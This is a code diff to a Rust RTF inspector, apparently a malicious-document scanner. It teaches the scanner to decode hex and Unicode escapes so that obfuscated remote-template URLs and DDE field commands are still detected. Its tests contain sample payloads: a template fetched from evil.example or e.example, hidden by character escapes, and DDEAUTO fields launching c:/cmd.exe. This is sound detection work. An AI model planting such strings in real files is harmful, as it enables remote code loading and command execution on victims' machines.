@@ -29,6 +29,7 @@ pub fn inspect(data: &[u8], report: &mut dyn Report) {
     let (mut object, mut template, mut field, mut class): (Vec<u8>, String, String, String) = Default::default();
     let (mut objects, mut words, mut at, mut updates, mut says_object) = (0usize, 0usize, 0usize, false, false);
     while let Some(byte) = data.get(at) {
+        let mut letter = None;
         match byte {
             b'{' => {
                 if groups.len() < DEPTH_MAX {
@@ -84,20 +85,34 @@ pub fn inspect(data: &[u8], report: &mut dyn Report) {
                         }
                         at += count;
                     }
-                    b"'" => at += 2,
+                    // Letters may be written by number, which keeps an address from a plain search.
+                    b"'" => {
+                        letter = hexadecimal(data, at);
+                        at += 2;
+                    }
+                    b"u" => {
+                        letter = number.and_then(|code| u32::try_from(code).ok()).and_then(char::from_u32);
+                        // One character for readers that know no Unicode follows.
+                        at += usize::from(letter.is_some() && data.get(at).is_some_and(|b| !b"{}\\\r\n".contains(b)));
+                    }
                     _ => {}
                 }
             }
             _ => {
                 match mode {
                     Mode::ObjectData if byte.is_ascii_hexdigit() => object.push(*byte),
-                    Mode::Template if template.len() < 2048 => template.push(char::from(*byte)),
-                    Mode::Field if field.len() < 8192 => field.push(char::from(*byte)),
-                    Mode::Class if class.len() < 256 => class.push(char::from(*byte)),
+                    // A line's end in the source is not part of the text.
+                    _ if !matches!(byte, b'\r' | b'\n') => letter = Some(char::from(*byte)),
                     _ => {}
                 }
                 at += 1;
             }
+        }
+        match (mode, letter) {
+            (Mode::Template, Some(letter)) if template.len() < 2048 => template.push(letter),
+            (Mode::Field, Some(letter)) if field.len() < 8192 => field.push(letter),
+            (Mode::Class, Some(letter)) if class.len() < 256 => class.push(letter),
+            _ => {}
         }
     }
     if !object.is_empty() {
@@ -119,6 +134,12 @@ pub fn inspect(data: &[u8], report: &mut dyn Report) {
 }
 
 const HEX: &[u8; 16] = b"0123456789abcdef";
+
+/// The two digits after `\\'`.
+fn hexadecimal(data: &[u8], at: usize) -> Option<char> {
+    let digits = std::str::from_utf8(take(data, at, 2)?).ok()?;
+    u8::from_str_radix(digits, 16).ok().map(char::from)
+}
 
 /// The word after a backslash, its number, and where the text goes on.
 fn control_word(data: &[u8], start: usize) -> (&[u8], Option<usize>, usize) {
@@ -228,6 +249,12 @@ mod tests {
         let check = |text: &str, expect: &[&str]| assert_eq!(seen(text).rules(), expect, "{text}");
         check("{\\rtf1 Hello \\b bold\\b0}", &[]);
         check("{\\rtf1{\\*\\template http://evil.example/a.dotm}}", &["files/office-remote-template"]);
+        check(
+            "{\\rtf1{\\*\\template \\u104?\\u116?\\u116?\\u112?://e.example/a.dotm}}",
+            &["files/office-remote-template"],
+        );
+        check("{\\rtf1{\\*\\template \\'68\\'74tp://e.example/a.dotm}}", &["files/office-remote-template"]);
+        check("{\\rtf1{\\field{\\*\\fldinst {\\b DDE}{\\i \\'41UTO} c:/cmd.exe}}}", &["files/office-dde"]);
         check("{\\rtf1{\\*\\template C:\\\\Normal.dotm}}", &[]);
         check("{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:/cmd.exe}}}", &["files/office-dde"]);
         check(
